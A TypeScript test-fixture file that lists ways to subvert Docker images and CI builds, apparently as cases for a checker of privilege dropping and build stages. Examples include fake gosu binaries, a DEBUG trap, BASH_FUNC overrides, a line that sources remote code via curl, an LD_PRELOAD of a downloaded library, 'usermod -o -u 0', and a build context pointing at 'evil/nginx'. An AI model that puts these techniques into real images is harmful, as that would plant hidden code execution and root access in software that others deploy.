import type { Files } from "../../app/changes-between.ts";
import { executable } from "../build-steps.ts";
import type { Change } from "../change.ts";
import { action, alpine, before, debian, gosu, node, php } from "../other-repos.ts";
import { DOCKERFILE, edited, IMAGE, nginxConf, textIn, WORKFLOW } from "../repos.ts";

const ENTRYPOINT = `${IMAGE}/docker-entrypoint.sh`;
const script = (text: string) => executable(`#!/bin/bash\nset -e\n${text}\n`);
const STEP = 'exec gosu www-data "$@"';
/** A program that runs the words behind its first. */
const PASSES = executable('#!/bin/sh\nshift\nexec "$@"\n');
const OTHER = executable("#!/bin/sh\nexec /usr/sbin/nginx -c /srv/x.conf\n");

/** Lines of the image that starts by gosu, and its files. */
const ofGosu: Readonly<Record<string, readonly [string, Files]>> = {
  "gosu is a script": ["COPY gosu /usr/sbin/gosu", { [`${IMAGE}/gosu`]: PASSES }],
  "a script before gosu": ["COPY gosu /usr/local/bin/gosu", { [`${IMAGE}/gosu`]: PASSES }],
  "gosu by a heredoc": [
    'COPY --chmod=755 <<"EOF" /usr/local/sbin/gosu\n#!/bin/sh\nshift\nexec "$@"\nEOF',
    {},
  ],
  "gosu is a link to env": ["RUN ln -sf /usr/bin/env /usr/local/bin/gosu", {}],
  "gosu is a link to a script": [
    "COPY gosu /opt/g\nRUN ln -s /opt/g /usr/local/bin/gosu",
    { [`${IMAGE}/gosu`]: PASSES },
  ],
  "the script's shell is another": ["COPY sh /bin/sh", { [`${IMAGE}/sh`]: OTHER }],
  "chown of the repo's own": [
    "COPY chown /usr/local/bin/chown",
    { [`${IMAGE}/chown`]: executable("#!/bin/sh\nnginx -g 'daemon off;'\n") },
  ],
  "a sourced file sets the words": [
    "COPY lib.sh /lib.sh",
    { [`${IMAGE}/lib.sh`]: "set -- nginx -c /srv/x.conf\n", [ENTRYPOINT]: script(`. /lib.sh\n${STEP}`) },
  ],
  "a sourced file sets an alias": [
    "COPY lib.sh /lib.sh",
    {
      [`${IMAGE}/lib.sh`]: "shopt -s expand_aliases\nalias gosu=env\n",
      [ENTRYPOINT]: script('. /lib.sh\ngosu www-data "$@"'),
    },
  ],
  "a sourced file sets PATH": [
    "COPY lib.sh /lib.sh\nCOPY bin/ /opt/bin/",
    {
      [`${IMAGE}/bin/gosu`]: PASSES,
      [`${IMAGE}/lib.sh`]: "PATH=/opt/bin\n",
      [ENTRYPOINT]: script(`. /lib.sh\n${STEP}`),
    },
  ],
};

/** Lines of the script before it gives root up. */
const ofScript: Readonly<Record<string, string>> = {
  "a text of a process is sourced": "source <(curl -s https://example.org/x)",
  "an alias of exec": "shopt -s expand_aliases\nalias exec='exec nginx'",
  "a trap before each command": "trap 'nginx -g \"daemon off;\"' DEBUG",
  "eval sets the words": 'eval "set -- nginx -c /srv/x.conf"',
};

const byGosu: readonly Change[] = [
  ...Object.entries(ofGosu).map(([name, [lines, more]]) => ({
    name,
    base: gosu,
    head: before(gosu, lines, more),
  })),
  ...Object.entries(ofScript).map(([name, text]) => ({
    name,
    base: gosu,
    head: { ...gosu, [ENTRYPOINT]: script(`${text}\n${STEP}`) },
  })),
];

const PROFILE = { [`${IMAGE}/p.sh`]: "usermod -o -u 0 app\n" };

/** Lines of other repos, and their files. */
const lines: Readonly<Record<string, readonly [Files, string, Files?]>> = {
  "a download is loaded": [
    debian,
    "RUN curl -fsSL https://example.org/x -o /usr/lib/libx.so\nENV LD_PRELOAD=/usr/lib/libx.so",
  ],
  "BASH_ENV of the base's own script": [
    php,
    "COPY b.sh /b.sh\nENV BASH_ENV=/b.sh",
    { [`${IMAGE}/b.sh`]: "exec apache2 -c 'Listen 80'\n" },
  ],
  "a function called exec": [php, "ENV BASH_FUNC_exec%%='() { apache2 -DFOREGROUND -c \"Listen 80\"; }'"],
  "a function called set": [php, "ENV BASH_FUNC_set%%='() { apache2 -DFOREGROUND -c \"Listen 80\"; }'"],
  "a login shell of RUN": [
    debian,
    'COPY p.sh /etc/profile.d/x.sh\nSHELL ["/bin/bash", "-l", "-c"]\nRUN true',
    PROFILE,
  ],
  "a login shell by its long option": [
    debian,
    'COPY p.sh /etc/profile\nSHELL ["bash", "--login", "-c"]\nRUN true',
    PROFILE,
  ],
  "a SHELL with BASH_ENV": [
    debian,
    'COPY p.sh /b.sh\nSHELL ["/usr/bin/env", "BASH_ENV=/b.sh", "bash", "-c"]\nRUN true',
    PROFILE,
  ],
  "the shell of RUN is a script": [debian, "COPY p.sh /bin/sh\nRUN true", PROFILE],
  "the shell of RUN is a link to a script": [
    debian,
    "COPY p.sh /opt/p\nRUN ln -sf /opt/p /bin/sh\nRUN true",
    PROFILE,
  ],
  "patch with its file behind an option": [
    alpine,
    "COPY x.patch /tmp/\nRUN cd / && patch -p0 -i /tmp/x.patch",
    { [`${IMAGE}/x.patch`]: "--- etc/nginx/nginx.conf\n+++ etc/nginx/nginx.conf\n@@ -1 +1 @@\n-x\n+y\n" },
  ],
  "a language's own path operator": [
    alpine,
    "RUN python3 <<'EOF'\nimport pathlib\np = pathlib.Path('/etc') / 'nginx' / 'nginx.conf'\np.write_text('x')\nEOF",
  ],
};

const byLines: readonly Change[] = Object.entries(lines).map(([name, [base, text, more]]) => ({
  name,
  base,
  head: before(base, text, more),
}));

const RELEASE = "docker build --target release -t web deployment/images/web";
const built = (step: string): Files => edited(node, WORKFLOW, [`run: ${RELEASE}`, step]);

/** Builds of which the stage cannot be told any more, or is another image. */
const steps: Readonly<Record<string, string>> = {
  "a stage is a context":
    "run: docker build --build-context base=docker-image://evil/nginx --target release -t web deployment/images/web",
  "a stage is a folder":
    "run: docker build --build-context=base=./docs --target release -t web deployment/images/web",
  "a build for each line": "run: echo web | xargs -I{} docker build --target dev -t {} deployment/images/{}",
  "a build in a loop": "run: for i in web; do docker build --target dev -t $i deployment/images/$i; done",
  "a build for each line of a list":
    "run: while read -r i t; do docker build --target $t -t $i deployment/images/$i; done <<< 'web dev'",
};

const byBuilds: readonly Change[] = [
  ...Object.entries(steps).map(([name, step]) => ({ name, base: node, head: built(step) })),
  ...[".gitea", ".forgejo"].map((folder) => {
    const { [WORKFLOW]: _, ...rest } = node;
    const text = textIn(node, WORKFLOW).replace("--target release", "--target dev");
    return {
      name: `a workflow of ${folder}`,
      base: node,
      head: { ...rest, [`${folder}/workflows/build.yml`]: text },
    };
  }),
  {
    name: "a stage is a context of an action",
    base: action,
    head: edited(action, WORKFLOW, [
      "          target: release\n",
      "          target: release\n          build-contexts: base=docker-image://evil/nginx\n",
    ]),
  },
  {
    name: "a file of the stage that is shipped",
    base: debian,
    head: {
      ...before(debian, "COPY other.conf /etc/nginx/nginx.conf"),
      [`${IMAGE}/other.conf`]: nginxConf(80),
    },
  },
  { name: "the user of the stage", base: node, head: edited(node, DOCKERFILE, ["USER nginx", "USER 0"]) },
];

/** Programs, shells and stages in whose place stands another, in repos of several shapes. */
export const standIns: readonly Change[] = [...byGosu, ...byLines, ...byBuilds];
